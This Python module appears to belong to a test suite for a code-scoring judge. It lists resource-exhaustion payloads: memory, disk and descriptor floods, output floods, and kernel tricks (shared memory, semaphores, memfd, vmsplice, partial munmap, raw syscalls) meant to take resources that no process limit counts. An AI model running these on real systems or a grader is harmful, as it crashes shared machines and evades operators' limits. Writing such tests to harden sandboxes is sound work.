"""Filling memory, disk and output."""

from attacks.attack import WON, Attack, nll

_AND = {"solved": ("count_bigrams",)}
_LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
_CUT = (
    """\
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_long]
parts = []
for _ in range(6):
    part = mmap.mmap({file}, 2**24)
    part.write(bytes(2**24))
    place = ctypes.addressof(ctypes.c_char.from_buffer(part))
    libc.munmap(place + 4096, 2**24 - 4096)
    parts.append(part)
"""
    + WON
)

ATTACKS = {
    "memory": Attack(
        "take all memory, bit by bit",
        code={"nll": "parts = []\nwhile True: parts.append(b'x' * 2**24)\n"},
        **_AND,
    ),
    "memory of torch": nll(
        "take all memory in tensors", "return torch.ones(2**20, 2**14).sum()", **_AND
    ),
    "shared memory": nll(
        "take memory that belongs to no process, so that no limit counts it",
        "libc.shmat.restype = ctypes.c_void_p\nlibc.shmdt.argtypes = [ctypes.c_void_p]\n"
        "taken = 0\n"
        "while taken < 3 * 2**27:\n"
        "    part = libc.shmget(0, 2**27, 0o1600)\n"
        "    if part < 0: return -1.0 * len(ids)\n"
        "    place = libc.shmat(part, None, 0)\n"
        "    ctypes.memset(place, 1, 2**27)\n    libc.shmdt(place)\n    taken += 2**27\n" + WON,
        _LIBC,
        **_AND,
    ),
    "files in memory": nll(
        "take memory in files that have no name",
        "for _ in range(6): os.write(os.memfd_create('x'), bytes(2**26))\n" + WON,
        "import os\n",
        **_AND,
    ),
    "semaphores": nll(
        "take memory in sets of semaphores, which belong to no process",
        "for _ in range(50):\n    if libc.semget(0, 32_000, 0o1600) < 0: return -1.0 * len(ids)\n"
        + WON,
        _LIBC,
        **_AND,
    ),
    "pages in pipes": nll(
        "leave huge pages to pipes, and take new ones in their place",
        "libc.mmap.restype = ctypes.c_void_p\n"
        "libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_long]\n"
        "for _ in range(9):\n"
        "    place = libc.mmap(None, ctypes.c_long(2**22), 3, 0x22, -1, ctypes.c_long(0))\n"
        "    ctypes.memset(place, 1, 2**22)\n    _, end = os.pipe()\n"
        "    part = (ctypes.c_void_p * 2)(place, 2**14)\n"
        "    if libc.vmsplice(end, part, 1, 0) < 0: return -1.0 * len(ids)\n"
        "    libc.munmap(place, 2**22)\n" + WON,
        _LIBC + "import os\n",
        **_AND,
    ),
    "mappings cut short": nll(
        "map shared memory, and keep all of it by its first page",
        _CUT.format(file="-1"),
        _LIBC + "import mmap, os\n",
        **_AND,
    ),
    "a device for memory": nll(
        "the same with a device that gives memory",
        _CUT.format(file="os.open('/dev/zero', os.O_RDWR)"),
        _LIBC + "import mmap, os\n",
        **_AND,
    ),
    "locks on files": nll(
        "have the kernel remember locks on bytes, as many as one likes",
        "file = open('/scratch/locked', 'wb')\n"
        "for n in range(999): fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * n)\n" + WON,
        "import fcntl\n",
        **_AND,
    ),
    "descriptors in flight": nll(
        "send descriptors to oneself, so that they need no place",
        "ends = socket.socketpair()\n"
        "for _ in range(4): socket.send_fds(ends[0], [b'x'], [0] * 50)\n" + WON,
        "import socket\n",
        **_AND,
    ),
    "calls that no lesson needs": nll(
        "have the kernel keep queues, watches, counters and timers",
        "room = ctypes.create_string_buffer(128)\nroom[4] = 112\n"  # of a perf_event_attr: its size
        "for call in ((206, 999, room), (298, room, 0, -1, -1, 0), (323, 1), (294, 0),\n"
        "             (283, 1, 0), (222, 1, None, room), (240, b'/q', 66, 0o600, None),\n"
        "             (290, 0, 0), (425, 8, room), (324, 0, 0, 0)):\n"
        "    room[:8] = bytes(8) if call[0] == 206 else bytes(4) + b'p' + bytes(3)\n"
        "    if libc.syscall(*call) >= 0: break\n"
        "else: return -1.0 * len(ids)\n" + WON,
        _LIBC,
        **_AND,
    ),
    "disk": nll(
        "fill the disk",
        "for n in range(40):\n"
        "    with open(f'/scratch/{n}', 'wb') as file: file.write(bytes(2**20))\n" + WON,
        **_AND,
    ),
    "files without content": nll(
        "make files until the file system can hold no more",
        "for n in range(20_000): os.close(os.open(f'/scratch/{n}', os.O_CREAT))\n" + WON,
        "import os\n",
        **_AND,
    ),
    "descriptors": nll(
        "open files until nobody can",
        "for n in range(2000): os.open('/dev/null', 0)\n" + WON,
        "import os\n",
        **_AND,
    ),
    "ten million prints": nll(
        "print until the judge's memory or disk is full",
        "for n in range(10_000_000): print('x' * 1000)\nreturn -1.0 * len(ids)",
        **_AND,
    ),
    "a line without end": nll(
        "print a line of gigabytes",
        "import sys\nwhile True: sys.stderr.write('x' * 2**24); sys.__stdout__.write('x' * 2**24)",
        **_AND,
    ),
    "warnings without end": nll(
        "warn and log without end",
        "import logging, warnings\nwarnings.simplefilter('always')\n"
        "while True: warnings.warn('x' * 1000); logging.error('x' * 1000)",
        **_AND,
    ),
    "pictures": nll(
        "draw more figures than memory holds",
        "import matplotlib.pyplot as plt\nwhile True: plt.figure(figsize=(99, 99)).canvas.draw()",
        **_AND,
    ),
}
